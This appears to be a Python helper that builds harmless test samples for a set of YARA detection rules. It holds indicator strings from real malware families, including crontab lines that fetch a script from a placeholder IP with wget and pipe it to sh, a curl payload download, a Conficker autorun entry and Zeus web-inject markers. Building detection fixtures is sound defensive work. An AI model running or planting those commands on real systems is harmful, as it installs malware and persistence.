#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Harmless samples for the campaign's own rules: plant_samples.py FOLDER OUTPUT

Each is the strings of one rule behind a header that no system starts: nothing in it is a program.
The strings are taken out of the rules, so that no other file holds them in the open.
"""
import re
import sys
from pathlib import Path

# Neither class nor machine, nor an entry: no loader takes them.
HEADERS = {"0x464c457f": b"\x7fELF" + bytes(60), "0x5a4d": b"MZ" + bytes(62)}
MASK = 0x22

# What an expression stands for; "{}" is nothing, and keeps the rules from finding this file.
EXAMPLES = {
    ("QS_Mozi_Start_Script", "program"): "/usr/{}networks",
    ("QS_Mozi_Start_Script", "alternative"): "/user/{}networktmp",
    ("QS_RapperBot_Key", "key"): "ssh-rsa{} AAAAB3NzaC1yc2EAAAADAQABAAACAQC/"
    "yU0iqklqw6etPlUon4mZzxslFWq8G8sRyluQMD3i8tpQWT2cX",
    ("QS_RapperBot_Key", "name"): "=={} helloworld",
    ("QS_XorDDoS_Start_Script", "run"): "/lib/{}libudev.so.6",
    ("QS_XorDDoS_Crontab", "shell"): "SHELL=/bin/sh",
    ("QS_XorDDoS_Crontab", "task"): "*/3 * * * * root {}/etc/cron.hourly/gcc.sh",
    ("QS_Kinsing_Crontab", "fetch"): "* * * * * wget -q -O - {}http://192.0.2.1/",
    ("QS_Kinsing_Crontab", "run"): "/unk.sh {}| sh > /dev/null 2>&1",
    ("QS_Perfctl_Crontab", "task"): "11 * * * * /root{}/.config/cron/perfcc",
    ("QS_Conficker_Autorun", "start"): "shelLExECUte=RuNdLl32.EXE   {}.\\RECYCLER\\S-5-3-42-1-2-3-4"
    "\\jwgkvsq.vmx,abc",
    ("QS_XMRig_Dropper_Script", "kill"): "pkill -f x",
    ("QS_XMRig_Dropper_Script", "fetch"): "curl -o x http://192.0.2.1/x",
    ("QS_Zeus_Web_Injects", "url"): "set_url https://bank.example/ GP",
    ("QS_Zeus_Web_Injects", "before"): "data_{}before",
    ("QS_Zeus_Web_Injects", "inject"): "data_{}inject",
    ("QS_Zeus_Web_Injects", "after"): "data_{}after",
    ("QS_Zeus_Web_Injects", "end"): "data_{}end",
}

RULE = re.compile(r"^rule (\w+)\n\{\n(.*?)^\}$", re.S | re.M)
META = re.compile(r'^\t\t(\w+) = "((?:[^"\\]|\\.)*)"$', re.M)
STRING = re.compile(
    r'^\t\t\$(\w+) = (?:"((?:[^"\\]|\\.)*)"|\{ ([0-9A-F ]+) \}|(/.+/))((?: [a-z]+(?:\(.*?\))?)*)$', re.M)


class Rule:
    """One rule: its name, meta, condition, and the bytes that each of its strings looks for."""

    def __init__(self, name, body):
        self.name = name
        meta, _, rest = body.partition("\tstrings:\n")
        strings, _, self.condition = rest.partition("\tcondition:\n")
        self.meta = dict(META.findall(meta))
        self.strings = {}
        self.expressions = set()  # names of strings that are more than a text
        for key, text, digits, expression, modifiers in STRING.findall(strings):
            if expression:
                self.expressions.add(key)
            self.strings[key] = self.planted(key, text, digits, expression, modifiers.split())
        if len(self.strings) != len(strings.splitlines()):
            raise ValueError(f"{name}: a string that is not understood")

    def planted(self, key, text, digits, expression, modifiers):
        if digits:
            return bytes.fromhex(digits)
        if expression:
            return EXAMPLES[self.name, key].replace("{}", "").encode()
        data = re.sub(r"\\(.)", r"\1", text).encode()
        if "wide" in modifiers and "ascii" not in modifiers:
            data = b"".join(bytes([byte, 0]) for byte in data)
        if any(word.startswith("xor") for word in modifiers):
            data = bytes(byte ^ MASK for byte in data)
        return data

    @property
    def header(self):
        for magic, header in HEADERS.items():
            if f"== {magic}" in self.condition:
                return header
        return b""

    def sample(self, keys=None, header=None):
        """A file with these strings (all of them unless said); those that have a place stand there."""
        places = {key: int(at) for key, at in re.findall(r"\$(\w+) at (\d+)", self.condition)}
        out = bytearray(self.header if header is None else header)
        for key, data in self.strings.items():
            if keys is not None and key not in keys:
                continue
            at = places.get(key)
            if at is None:
                out += (b"\n" if out[-1:] != b"\n" else b"") + data + b"\n"
            else:
                out += bytes(at - len(out)) + data
        return bytes(out)


def rules_in(folder):
    found = []
    for path in sorted(Path(folder).glob("*.yar")):
        text = path.read_text(encoding="utf-8")
        rules = [Rule(name, body) for name, body in RULE.findall(text)]
        if len(rules) != len(re.findall(r"^rule ", text, re.M)):
            raise ValueError(f"{path}: a rule that is not understood")
        found += rules
    return found


def main():
    if len(sys.argv) != 3:
        sys.exit(__doc__)
    output = Path(sys.argv[2])
    output.mkdir(parents=True, exist_ok=True)
    for rule in rules_in(sys.argv[1]):
        (output / f"{rule.name}.sample").write_bytes(rule.sample())


if __name__ == "__main__":
    main()
